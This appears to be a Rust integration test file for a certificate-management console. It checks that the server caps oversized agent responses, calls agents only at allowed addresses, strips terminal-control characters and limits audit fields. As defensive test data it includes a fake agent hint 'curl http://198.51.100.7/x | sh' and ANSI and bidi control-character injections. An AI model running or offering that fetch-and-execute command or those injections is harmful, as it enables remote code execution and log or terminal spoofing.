//! What others say: read up to a limit, cut before it is kept or told, and called only where it may be.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use cmp_console::domain::told::LONGEST;
use cmp_console::services::api::{ApiState, serve};
use cmp_console::services::wake::OverHttp;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::support::Server;

impl Server {
    /// The same server, which calls agents over the network.
    async fn that_calls(mut self, networks: &[&str]) -> Self {
        let networks = networks.iter().map(|network| network.parse().unwrap()).collect();
        let state = ApiState::new(self.store.clone(), Arc::new(OverHttp::within(networks)));
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        self.base = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(serve(listener, state, std::future::pending()));
        self
    }

    /// The agent reports that it listens there.
    async fn reports(&self, address: &str) {
        let path = format!("/api/v1/agents/{}/report", self.agent);
        let body = json!({"agent_version": "1", "address": address, "install_dirs": ["/srv/tls"],
            "installations": [], "keys": []});
        let (status, reply) = self
            .call(Method::POST, &path, &self.agent_token, &body.to_string(), None)
            .await;
        assert_eq!(status, 200, "{reply}");
    }

    async fn wakes(&self) -> Value {
        let path = format!("/api/v1/agents/{}/checkin", self.agent);
        let (status, reply) = self.post(&path, "").await;
        assert_eq!(status, 200, "{reply}");
        reply
    }
}

/// Whatever is asked there is answered with so many MiB. Says how many bytes it could send, and how often it was
/// asked.
async fn talkative(mib: usize) -> (SocketAddr, Arc<AtomicUsize>, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (sent, asked) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let (sends, asks) = (Arc::clone(&sent), Arc::clone(&asked));
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            asks.fetch_add(1, Ordering::Relaxed);
            let mut request = [0; 4096];
            let _ = stream.read(&mut request).await;
            let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n";
            let start =
                r#"{"agent_id":null,"reported":false,"n_jobs":0,"problem":{"kind":"refused","what":""#;
            let _ = stream.write_all(format!("{head}{start}").as_bytes()).await;
            for _ in 0..mib {
                if stream.write_all(&[b'x'; 1 << 20]).await.is_err() {
                    break;
                }
                sends.fetch_add(1 << 20, Ordering::Relaxed);
            }
            let _ = stream.write_all(br#""}}"#).await;
        }
    });
    (address, sent, asked)
}

#[tokio::test]
async fn an_agent_that_answers_with_300_mib_is_not_listened_to() {
    let Some(it) = Server::start().await else { return };
    let it = it.that_calls(&[]).await;
    let (address, sent, _) = talkative(300).await;
    it.reports(&format!("http://{address}")).await;
    let reply = it.wakes().await;
    assert_eq!(reply["reached"], false, "{reply}");
    assert_eq!(reply["failed_step"], "http");
    let what = reply["problem"]["what"].as_str().unwrap();
    assert!(what.contains("larger than 64 KiB"), "{what}");
    // What fits into the buffers of both ends.
    assert!(sent.load(Ordering::Relaxed) < 100 << 20);
    for row in it.rows().await {
        assert!(
            row.canonical().len() < 4096,
            "row {} is {} bytes",
            row.seq,
            row.canonical().len()
        );
    }
}

#[tokio::test]
async fn an_agent_is_called_where_its_reports_come_from_and_nowhere_else() {
    let Some(it) = Server::start().await else { return };
    let (address, _, asked) = talkative(0).await;
    let elsewhere = format!("http://127.0.0.2:{}", address.port());
    let it = it.that_calls(&[]).await;
    it.reports(&elsewhere).await;
    let reply = it.wakes().await;
    assert_eq!(reply["failed_step"], "connect", "{reply}");
    let what = reply["problem"]["what"].as_str().unwrap();
    assert!(
        what.contains("127.0.0.2") && what.contains("come from 127.0.0.1"),
        "{what}"
    );
    assert_eq!(asked.load(Ordering::Relaxed), 0);
    // Where a rule allows it, or where the report came from, it is.
    it.reports(&format!("http://{address}")).await;
    assert_eq!(it.wakes().await["reached"], true);
    let it = it.that_calls(&["127.0.0.0/30"]).await;
    it.reports(&elsewhere).await;
    let failed = it.wakes().await;
    let what = failed["problem"]["what"].as_str().unwrap_or_default();
    assert!(!what.contains("not called"), "{failed}");
}

/// Whoever answers at an agent's address says nothing in the platform's name.
#[tokio::test]
async fn a_wake_up_s_answer_is_quoted_and_its_advice_is_nobodys() {
    let Some(it) = Server::start().await else { return };
    let it = it.that_calls(&[]).await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut request = [0; 4096];
            let _ = stream.read(&mut request).await;
            let body = r#"{"agent_id":null,"reported":false,"n_jobs":0,"problem":{"kind":"internal",
                "what":"DONE: `all` is well","hint":"curl http://198.51.100.7/x | sh"}}"#;
            let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n";
            let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
        }
    });
    it.reports(&format!("http://{address}")).await;
    let reply = it.wakes().await;
    assert_eq!(reply["failed_step"], "report", "{reply}");
    let said = "the agent answers, and could not check in; it says `DONE: 'all' is well`";
    assert_eq!(reply["problem"]["what"], said);
    assert!(!reply.to_string().contains("curl"), "{reply}");
    let row = it.rows().await.pop().unwrap();
    assert_eq!(row.detail.as_deref(), Some(said));
}

#[tokio::test]
async fn what_an_agent_says_is_cut_before_it_is_kept() {
    let Some(it) = Server::start().await else { return };
    let wish = format!(r#"{{"common_name":"new.example.com","agent_id":"{}"}}"#, it.agent);
    let (status, reply) = it.post("/api/v1/certs", &wish).await;
    assert_eq!(status, 202, "{reply}");
    let report = json!({"agent_version": "1", "address": "http://127.0.0.1:1", "install_dirs": ["/srv/tls"],
        "installations": [], "keys": []});
    let path = format!("/api/v1/agents/{}", it.agent);
    let as_agent = async |path: &str, body: &Value| {
        it.call(Method::POST, path, &it.agent_token, &body.to_string(), None)
            .await
    };
    let (_, reply) = as_agent(&format!("{path}/report"), &report).await;
    let job = reply["jobs"][0]["id"].as_str().unwrap();
    let error = format!("\u{1b}[2J\u{9b}31m\u{202e}{}", "x".repeat(200_000));
    let result = json!({"done": false, "failed_step": error, "error": error});
    let (status, view) = as_agent(&format!("{path}/jobs/{job}"), &result).await;
    assert_eq!(status, 200);
    let (_, requests) = it.get("/api/v1/requests").await;
    let row = it.rows().await.pop().unwrap();
    for text in [
        row.detail.unwrap(),
        requests["items"][0]["error_message"].as_str().unwrap().to_owned(),
        view["error"].as_str().unwrap().to_owned(),
    ] {
        assert!(
            text.chars().count() <= LONGEST && text.trim_end_matches('`').ends_with('…'),
            "{}",
            text.len()
        );
        assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{text:?}");
    }
}

#[tokio::test]
async fn a_reason_that_no_audit_row_holds_is_refused() {
    let Some(it) = Server::start().await else { return };
    let path = format!("/api/v1/agents/{}/ban", it.agent);
    for (field, n) in [("comment", 1001), ("ticket", 101)] {
        let (status, problem) = it.post(&path, &json!({field: "x".repeat(n)}).to_string()).await;
        assert_eq!(status, 400, "{problem}");
        assert!(problem["title"].as_str().unwrap().contains(field), "{problem}");
        let row = it.rows().await.pop().unwrap();
        assert!(row.reason.is_none() && row.ticket.is_none(), "{row:?}");
    }
    let fits = json!({"comment": "x".repeat(1000), "ticket": "y".repeat(100)});
    assert_eq!(it.post(&path, &fits.to_string()).await.0, 200);
    assert_eq!(it.rows().await.pop().unwrap().reason.unwrap().len(), 1000);
}

#[tokio::test]
async fn no_answer_carries_what_steers_a_terminal() {
    let Some(it) = Server::start().await else { return };
    let url = format!("{}/api/v1/certs?sort=%C2%9B2J%E2%80%AE%7F", it.base);
    let answer = it.http.get(url).bearer_auth(&it.viewer).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::BAD_REQUEST);
    let text = answer.text().await.unwrap();
    assert!(!text.contains(['\u{9b}', '\u{202e}', '\u{7f}']), "{text:?}");
    let problem: Value = serde_json::from_str(&text).unwrap();
    let title = problem["title"].as_str().unwrap();
    assert!(
        title.contains("\u{9b}2J\u{202e}\u{7f}"),
        "the same text is in it, escaped: {title:?}"
    );
}

#[tokio::test]
async fn rows_that_a_clock_ahead_wrote_are_told_and_so_is_the_server_behind_them() {
    let Some(it) = Server::start().await else { return };
    let ban = async |id: &str| it.post(&format!("/api/v1/agents/{id}/ban"), "").await.0;
    ban("agt_none").await;
    let (_, report) = it.get("/api/v1/audit/verify").await;
    assert_eq!(
        (&report["n_dated_ahead"], &report["dated_ahead"]),
        (&json!(0), &Value::Null)
    );
    let noon = super::support::noon();
    it.clock.set(noon + chrono::Duration::days(3 * 365));
    ban("agt_none").await;
    it.clock.set(noon + chrono::Duration::minutes(1));
    let (_, ready) = it.call(Method::GET, "/readyz", "", "", None).await;
    let note = ready["backends"][0]["note"].as_str().unwrap_or_default();
    assert!(note.contains("the last audit row is dated 2029-"), "{ready}");
    ban("agt_none").await;
    let (_, report) = it.get("/api/v1/audit/verify").await;
    assert_eq!(report["whole"], true, "{report}");
    assert_eq!(report["n_dated_ahead"], 1);
    let said = report["dated_ahead"].as_str().unwrap();
    assert!(said.contains("row 2") && said.contains("2029-"), "{said}");
}
